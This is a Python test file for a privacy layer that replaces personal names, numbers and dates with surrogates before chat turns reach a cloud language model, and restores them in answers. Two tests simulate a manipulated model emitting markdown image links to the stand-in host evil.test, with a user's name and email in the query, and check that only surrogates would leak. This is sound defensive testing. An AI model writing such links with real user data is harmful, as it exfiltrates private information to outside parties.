"""Conversations: nothing leaves as it is that must not, once charged is charged, all comes back."""

from __future__ import annotations

import itertools
import math
from collections.abc import Iterator, Sequence
from contextlib import closing, contextmanager, suppress
from datetime import date, timedelta
from pathlib import Path

import pytest

from sottovoce.core.errors import InvalidInput, NotFound, NotReady, QuotaExceeded, SottovoceError
from sottovoce.core.privacy.surrogates.dates import Dates
from sottovoce.core.text.tagger import Tagger
from sottovoce.edge.client import generation as writers
from sottovoce.edge.tasks.parts import Parts
from sottovoce.v1 import edge_agent_pb2 as agent
from sottovoce.v1 import edge_chat_pb2 as chats
from sottovoce.v1 import generation_pb2 as generation
from tests.support.agent import configured, opened
from tests.support.echo import EchoingCloud, echoing_cloud, last_text

SYSTEM, USER, ASSISTANT = 1, 2, 3
TEXT = (
    "Zelphira Quarnivel saw Jorvane at Little Drelmond, order AX-68042; Zelphira's five lamps leak."
)
SECRETS = ("Zelphira", "Quarnivel", "Jorvane", "Drelmond", "68042")


@contextmanager
def talking(
    folder: Path, bundle: Path, tagger: Tagger, **environ: str
) -> Iterator[tuple[Parts, EchoingCloud]]:
    with echoing_cloud() as cloud:
        linked = (folder / "home").exists()
        config = configured(
            folder,
            bundle=None if linked else bundle,
            SOTTO_CLOUD_ADDRESS=cloud.address,
            **environ,
        )
        with opened(config, tagger) as device:
            yield device, cloud


@pytest.fixture
def both(
    tmp_path: Path, small_bundle_folder: Path, lexicon_tagger: Tagger
) -> Iterator[tuple[Parts, EchoingCloud]]:
    with talking(tmp_path, small_bundle_folder, lexicon_tagger) as found:
        yield found


def request(*turns: tuple[int, str], **fields: object) -> chats.ChatRequest:
    return chats.ChatRequest(
        turns=[chats.ChatTurn(role=role, text=text) for role, text in turns], **fields
    )


def answered(
    events: Iterator[chats.ChatResponse] | Iterator[chats.CompleteResponse],
) -> tuple[chats.Departed, str, chats.Answered]:
    first, *deltas, last = events
    assert first.WhichOneof("event") == "departed"
    assert last.WhichOneof("event") == "answered"
    assert all(delta.delta_text for delta in deltas)
    return first.departed, "".join(delta.delta_text for delta in deltas), last.answered


def sent(cloud: EchoingCloud) -> list[str]:
    return [turn.released_text for turn in cloud.asked[-1].conversation.turns]


def test_what_leaves_holds_no_secret_and_what_comes_is_turned_back(
    both: tuple[Parts, EchoingCloud],
) -> None:
    device, cloud = both
    asked = request((SYSTEM, "Zelphira is the owner."), (USER, TEXT))
    departed, text, ended = answered(device.conversations.chat(asked))
    assert text == TEXT
    assert sent(cloud) == [turn.released_text for turn in departed.turns]
    assert [turn.role for turn in cloud.asked[0].conversation.turns] == [SYSTEM, USER]
    on_the_wire = cloud.asked[0].SerializeToString()
    for name in ("second", "third"):
        answered(
            device.conversations.chat(
                request((SYSTEM, "Zelphira is the owner."), (USER, TEXT), conversation=name)
            )
        )
    # By chance a draw can be the number itself; three are not.
    wires = [asked.SerializeToString() for asked in cloud.asked]
    assert not [secret for secret in SECRETS if all(secret.encode() in wire for wire in wires)]
    assert (departed.policy, departed.level) == ("personal", "balanced")
    assert {turned.shown for turned in ended.restored} >= {
        "Zelphira",
        "Quarnivel",
        "Jorvane",
        "AX-68042",
    }
    assert (ended.prompt_tokens, ended.finish_reason) == (7, generation.FINISH_REASON_STOP)
    assert ended.came == departed.turns[-1].released_text
    assert not ended.doubtful
    assert len(on_the_wire) % 512 == 0


def test_a_name_has_one_surrogate_in_a_conversation_and_another_in_the_next(
    both: tuple[Parts, EchoingCloud],
) -> None:
    device, cloud = both
    names = "Zelphira Quarnivel, Jorvane"  # all three alike by chance: never
    answered(device.conversations.chat(request((USER, names), (ASSISTANT, "who?"), (USER, names))))
    first = sent(cloud)
    assert first[0] == first[2]
    answered(device.conversations.chat(request((USER, names), conversation="other")))
    assert sent(cloud)[0] != first[0]
    departed, _, _ = answered(
        device.conversations.chat(request((USER, names)))
    )  # as it opened before
    assert (sent(cloud)[0], departed.charged) == (first[0], 0)


def test_history_that_is_sent_again_leaves_as_it_left_and_costs_nothing(
    tmp_path: Path, small_bundle_folder: Path, lexicon_tagger: Tagger
) -> None:
    # This level moves no word, so the echo is what was typed.
    light = agent.PrivacyOptions(level="light", policy="names")
    first = (USER, f"{TEXT} Jorvane has a cough.")
    with talking(tmp_path, small_bundle_folder, lexicon_tagger) as (device, cloud):
        departed, answer, _ = answered(device.conversations.chat(request(first, privacy=light)))
        assert (departed.charged, departed.turns_charged) == (10_000.0, 1)
        before = sent(cloud)
        spent = device.ledger.spending()
    with talking(tmp_path, small_bundle_folder, lexicon_tagger) as (device, cloud):
        history = [first, (ASSISTANT, answer), (USER, "Ask Zelphira again")]
        departed, text, _ = answered(device.conversations.chat(request(*history, privacy=light)))
        assert text == "Ask Zelphira again"
        assert sent(cloud)[:1] == before
        assert sent(cloud)[1] == before[0]  # the echo, as the cloud wrote it
        assert (departed.charged, departed.turns_charged) == (0, 1)
        assert device.ledger.spending().spent == spent.spent
        longer = [*history, (ASSISTANT, text), (USER, "once more")]
        dropped = longer[1:]  # its first turn, then no more of it is there than asks for an answer
        _, text, _ = answered(device.conversations.chat(request(*dropped, privacy=light)))
        assert (text, sent(cloud)[0]) == ("once more", before[0])


def test_an_answer_that_others_got_as_well_takes_nobody_elsewhere(
    both: tuple[Parts, EchoingCloud],
) -> None:
    device, cloud = both
    cloud.answer = lambda request: ["Sure!"]
    answered(device.conversations.chat(request((USER, "Write to Zelphira"))))
    before = sent(cloud)
    answered(device.conversations.chat(request((USER, "Write to Jorvane"))))
    answered(device.conversations.chat(request((USER, "Write to Zelphira"), conversation="named")))
    for turns in ([(USER, "Write to Zelphira")], [(USER, "another"), (USER, "Write to Zelphira")]):
        again = request(*turns, (ASSISTANT, "Sure!"), (USER, "Shorter"))
        answered(device.conversations.chat(again))
        assert sent(cloud)[-3] == before[0]


def test_an_answer_by_another_is_privatised_like_all_else(
    both: tuple[Parts, EchoingCloud],
) -> None:
    device, cloud = both
    _, answer, _ = answered(device.conversations.chat(request((USER, TEXT))))
    turns = (USER, TEXT), (ASSISTANT, answer + " Brunquist"), (USER, "go on")
    answered(device.conversations.chat(request(*turns)))
    assert not [secret for secret in (*SECRETS, "Brunquist") if secret in sent(cloud)[1]]
    plain = "the garden and the pond and the lamp by the bridge " * 5  # words without noise
    _, answer, _ = answered(device.conversations.chat(request((USER, plain))))
    assert answer == plain
    strong = agent.PrivacyOptions(policy="all", level="strong")
    turns = (USER, plain), (ASSISTANT, answer), (USER, "go on")
    answered(device.conversations.chat(request(*turns, privacy=strong)))
    assert sent(cloud)[1] != plain


def test_two_names_of_two_turns_have_two_surrogates(both: tuple[Parts, EchoingCloud]) -> None:
    device, cloud = both
    names = [f"Xq{a}{b}z" for a, b in itertools.product("abcdefgh", "abcdefgh")]
    turns = [(USER, " ".join(names[n : n + 8])) for n in range(0, 64, 8)]
    answered(device.conversations.chat(request(*turns)))
    surrogates = " ".join(sent(cloud)).lower().split()
    assert len(set(surrogates)) == 64  # of 503 nouns: chance alone has it once in 60 times


def test_nothing_is_turned_back_that_another_conversation_released(
    both: tuple[Parts, EchoingCloud],
) -> None:
    device, cloud = both
    answered(device.conversations.chat(request((USER, "Zelphira"), conversation="one")))
    surrogate = sent(cloud)[0]
    cloud.answer = lambda request: [f"{surrogate} says hello"]
    for name in ("two", "one"):  # nor in its own, where it does not leave again
        _, text, _ = answered(
            device.conversations.chat(request((USER, "a lamp"), conversation=name))
        )
        assert text == f"{surrogate} says hello"


def test_no_name_reaches_an_address_that_a_tricked_model_writes(
    both: tuple[Parts, EchoingCloud],
) -> None:
    device, cloud = both
    typed = "Zelphira Quarnivel, https://acme.test/zelphira?y=1, zelphira@acme.test"

    def tricked(request: generation.GenerateRequest) -> list[str]:
        name, page, mail = last_text(request).split(", ")
        query = name.replace(" ", "+")
        picture = f"![x](https://evil.test/p.png?q={query}&m={mail})"
        return [*f"Dear {name},\n{picture}\n[yours]({page}), <{mail}>"]

    cloud.answer = tricked
    _, text, ended = answered(device.conversations.chat(request((USER, typed))))
    name, _, mail = sent(cloud)[0].split(", ")
    assert text == (
        "Dear Zelphira Quarnivel,\n"
        f"![x](https://evil.test/p.png?q={name.replace(' ', '+')}&m={mail})\n"
        "[yours](https://acme.test/zelphira?y=1), <zelphira@acme.test>"
    )
    assert ended.addresses_kept == 1


def test_an_address_that_a_text_begins_gets_no_name(both: tuple[Parts, EchoingCloud]) -> None:
    device, cloud = both
    cloud.answer = lambda request: [last_text(request).split()[0]]
    text = "Zelphira: ![x](https://evil.test/?q="
    _, shown, ended = answered(device.conversations.complete(chats.CompleteRequest(text=text)))
    assert shown == cloud.asked[-1].released_text.split()[0]
    assert ended.addresses_kept == 1
    turns = (USER, "Zelphira"), (ASSISTANT, "<img src='/?q=")
    cloud.answer = lambda request: [request.conversation.turns[0].released_text]
    _, shown, _ = answered(device.conversations.chat(request(*turns)))
    assert shown == sent(cloud)[0] != "Zelphira"


def test_stop_strings_end_the_answer_as_it_is_shown(both: tuple[Parts, EchoingCloud]) -> None:
    device, cloud = both
    cloud.answer = lambda request: [*last_text(request), *("!" * 1000)]
    stops = ["Jorvane", "\n", "cough", "Rose:", "###", "7", "é", "🇫🇷"]
    _, text, ended = answered(device.conversations.chat(request((USER, TEXT), stops=stops)))
    assert text == "Zelphira Quarnivel saw "
    assert ended.finish_reason == generation.FINISH_REASON_STOP
    assert cloud.cancelled.wait(60)
    assert [*cloud.asked[0].released_stops] == ["\n", "###"]
    assert device.ledger.spending().releases == 1


@pytest.mark.parametrize(
    ("asked", "problem"),
    [
        (request(), "turns"),
        (request((0, "hello")), "role"),
        (request((99, "hello")), "role"),
        (request((USER, "a"), tool_use=99), "tool_use"),
        *(
            (request((USER, "a"), sampling=chats.Sampling(**{name: value})), name)
            for name, value in (
                ("temperature", math.nan),
                ("temperature", 2.1),
                ("top_p", -0.1),
                ("min_p", math.nan),
                ("presence_penalty", math.inf),
                ("frequency_penalty", -2.1),
            )
        ),
        (request((USER, " \n")), "nothing to answer"),
        (request((USER, "x" * (256 << 10) + "x")), "turns"),
        (request((USER, "a"), stops=[""]), "stops"),
        (request((USER, "a"), stops=["a"] * 17), "stops"),
        (request((USER, "a\0b")), "binary"),
        (request((USER, "a"), conversation="c" * 129), "name is too long"),
        (request((USER, "a"), privacy=agent.PrivacyOptions(policy="none")), "policy"),
        (request((USER, "a"), model="nobody's"), "adapter"),
    ],
)
def test_what_cannot_be_asked_is_refused_before_anything_leaves(
    both: tuple[Parts, EchoingCloud], asked: chats.ChatRequest, problem: str
) -> None:
    device, cloud = both
    with pytest.raises((InvalidInput, NotFound), match=problem):
        [*device.conversations.chat(asked)]
    assert cloud.asked == []
    assert device.ledger.spending().releases == 0


@pytest.mark.parametrize("name", ["M-A-R-I-A", "j. o. n. e. s", "M I R A L", "É.l.i.s.e"])
def test_a_spelled_name_leaves_as_another_and_comes_back(
    both: tuple[Parts, EchoingCloud], name: str
) -> None:
    device, cloud = both
    said = f"the actor is {name}, and {name} has a lamp"  # words without noise
    _, text, ended = answered(device.conversations.chat(request((USER, said))))
    (left,) = sent(cloud)
    assert name not in left
    assert text == said
    assert sum(each.times for each in ended.restored) >= 2


def test_without_cloud_or_budget_nothing_leaves_or_is_charged(
    tmp_path: Path, small_bundle_folder: Path, lexicon_tagger: Tagger
) -> None:
    limit = {"SOTTO_PRIVACY_LEDGER_LIMIT": "20", "SOTTO_CHAT_POLICY": "names"}
    with talking(tmp_path, small_bundle_folder, lexicon_tagger, **limit) as (device, cloud):
        twice = request((USER, "Jorvane has a cough"), (USER, "and Zelphira has a fever"))
        with pytest.raises(QuotaExceeded, match="ledger"):
            [*device.conversations.chat(twice)]
        assert (cloud.asked, device.ledger.spending().spent) == ([], 0)
        answered(device.conversations.chat(request((USER, "Jorvane has a cough"))))
        assert device.ledger.spending().spent == 15
    other = tmp_path / "other"
    other.mkdir()
    with opened(configured(other, bundle=small_bundle_folder), lexicon_tagger) as device:
        with pytest.raises(NotReady, match="no cloud"):
            [*device.conversations.chat(request((USER, "Jorvane has a cough")))]
        assert device.ledger.spending().releases == 0


def test_a_cloud_that_does_not_end_or_says_too_much_is_told_so(
    both: tuple[Parts, EchoingCloud], monkeypatch: pytest.MonkeyPatch
) -> None:
    device, cloud = both
    cloud.ends = False
    with pytest.raises(SottovoceError, match="no end"):
        [*device.conversations.chat(request((USER, "a lamp")))]
    monkeypatch.setattr(writers, "LARGEST_ANSWER", 1000)
    cloud.answer = lambda request: itertools.repeat("x" * 64)
    with pytest.raises(SottovoceError, match="more than 1000 characters"):
        [*device.conversations.chat(request((USER, "a lamp")))]
    assert cloud.cancelled.wait(60)


@pytest.mark.parametrize("how", ["broken off", "stopped", "too long", "cancelled", "whole"])
def test_an_answer_is_the_cloud_s_own_however_it_ended(
    both: tuple[Parts, EchoingCloud], monkeypatch: pytest.MonkeyPatch, how: str
) -> None:
    device, cloud = both
    words = "Brunquist has a cough. Ida has a fever. "  # would be drawn, and charged, as a user's
    cloud.answer = lambda request: [words, words + "#", "x" * 2000]
    cloud.ends = how == "whole"
    monkeypatch.setattr(writers, "LARGEST_ANSWER", 1000 if how == "too long" else 10_000)
    shown = ""
    with (
        suppress(SottovoceError),
        closing(
            device.conversations.chat(
                request((USER, "a lamp"), conversation="c", stops=["#"] if how == "stopped" else [])
            )
        ) as events,
    ):
        for event in events:
            shown += event.delta_text
            if how == "cancelled" and shown:
                break
    assert shown
    cloud.ends = True
    cloud.answer = lambda request: ["y"]
    turns = (USER, "a lamp"), (ASSISTANT, shown), (USER, "go on")
    departed, _, _ = answered(device.conversations.chat(request(*turns, conversation="c")))
    assert sent(cloud)[1].startswith(words)
    assert departed.charged == 0


def test_a_long_answer_makes_no_other_forgotten(both: tuple[Parts, EchoingCloud]) -> None:
    device, cloud = both
    said = "Brunquist has a cough."
    turns = [(USER, "a lamp")]
    for answer in (said, "x " * 100_000, "y"):
        cloud.answer = lambda request, answer=answer: [answer]
        _, shown, _ = answered(device.conversations.chat(request(*turns[:3], conversation="c")))
        turns += [(ASSISTANT, shown), (USER, "go on")]
    assert sent(cloud)[1] == said
    answered(device.conversations.chat(request(*turns[2:5], conversation="c")))
    assert sent(cloud)[1] == "x " * (32 << 10)


def test_a_text_is_continued(both: tuple[Parts, EchoingCloud]) -> None:
    device, cloud = both
    sampling = chats.Sampling(max_tokens=9, temperature=0.5, seed=0)
    asked = chats.CompleteRequest(text=TEXT, sampling=sampling)
    departed, text, _ = answered(device.conversations.complete(asked))
    assert text == TEXT
    (got,) = cloud.asked
    assert got.released_text == departed.turns[0].released_text != TEXT
    assert (got.sampling.max_tokens, got.sampling.temperature) == (9, 0.5)
    assert got.sampling.HasField("seed")
    assert got.bundle_id == departed.bundle_id


def test_where_nothing_is_kept_nothing_is_on_disk(
    tmp_path: Path, small_bundle_folder: Path, lexicon_tagger: Tagger
) -> None:
    days: Sequence[str] = ("0", "30")
    for kept, keep in enumerate(days):
        folder = tmp_path / keep
        folder.mkdir()
        with talking(folder, small_bundle_folder, lexicon_tagger, SOTTO_CHAT_KEEP_DAYS=keep) as (
            device,
            _,
        ):
            answered(device.conversations.chat(request((USER, TEXT))))
            assert len(device.store.rows("SELECT name FROM conversations")) == kept
            state = b"".join(file.read_bytes() for file in device.store.folder.iterdir())
            assert b"Zelphira" not in state


def test_another_cloud_gets_no_answer_of_the_first(
    tmp_path: Path, small_bundle_folder: Path, lexicon_tagger: Tagger
) -> None:
    with talking(tmp_path, small_bundle_folder, lexicon_tagger) as (device, cloud):
        cloud.answer = lambda request: ["Brunquist of this cloud"]
        _, answer, _ = answered(device.conversations.chat(request((USER, "a lamp"))))
        history = (USER, "a lamp"), (ASSISTANT, answer), (USER, "go on")
        answered(device.conversations.chat(request(*history)))
        assert sent(cloud)[1] == answer
        departed, _, _ = answered(device.conversations.chat(request(*history)))
        assert departed.charged == 0
    with talking(tmp_path, small_bundle_folder, lexicon_tagger) as (device, cloud):
        answered(device.conversations.chat(request(*history)))
        assert sent(cloud)[1].split()[0] != "Brunquist"


def test_the_record_holds_all_that_left(
    tmp_path: Path, small_bundle_folder: Path, lexicon_tagger: Tagger
) -> None:
    with talking(tmp_path, small_bundle_folder, lexicon_tagger, SOTTO_UI_RECORD="true") as both:
        device, cloud = both
        answered(device.conversations.chat(request((USER, TEXT), stops=["##", "Zelphira"])))
        (left,) = device.record.recent()
        assert left.text.split("\n") == ["##", *sent(cloud)]
        assert [*cloud.asked[-1].released_stops] == ["##"]


def test_dates_of_a_conversation_keep_their_intervals_and_come_back_in_any_form(
    tmp_path: Path, small_bundle_folder: Path, lexicon_tagger: Tagger
) -> None:
    def answer(request: generation.GenerateRequest) -> list[str]:
        """Name the first date in words, the second as ISO 8601, and an unnamed day."""
        texts = " ".join(turn.released_text for turn in request.conversation.turns)
        (first, second) = (date(*found.readings[0].day) for found in Dates(texts).within(0, 999))
        assert second - first == date(2024, 3, 1) - date(1979, 3, 14)
        after = second + timedelta(days=1)
        return [*f"{first:%B} {first.day}, {first.year} and {second} at 9:30, then {after}"]

    options = agent.PrivacyOptions(policy="personal")
    with talking(
        tmp_path, small_bundle_folder, lexicon_tagger, SOTTO_PRIVACY_LEAST_POLICY="personal"
    ) as (device, cloud):
        cloud.answer = answer
        asked = request(
            (USER, "born 14/03/1979."), (USER, "It is 1 March 2024, 9:30."), privacy=options
        )
        _, text, ended = answered(device.conversations.chat(asked))
        assert text.startswith("March 14, 1979 and 2024-03-01 at 9:30, then ")
        assert [each.came for each in ended.doubtful] == [text.rpartition(" ")[2]]


def test_what_is_computed_from_drawn_numbers_is_doubtful(
    tmp_path: Path, small_bundle_folder: Path, lexicon_tagger: Tagger
) -> None:
    names = {"SOTTO_CHAT_POLICY": "names"}
    with talking(tmp_path, small_bundle_folder, lexicon_tagger, **names) as (device, cloud):
        cloud.answer = lambda _: ["It is 123,456."]
        _, text, ended = answered(device.conversations.chat(request((USER, "What is 17 * 23?"))))
        assert text == "It is 123,456."
        assert [each.came for each in ended.doubtful] == ["123,456"]
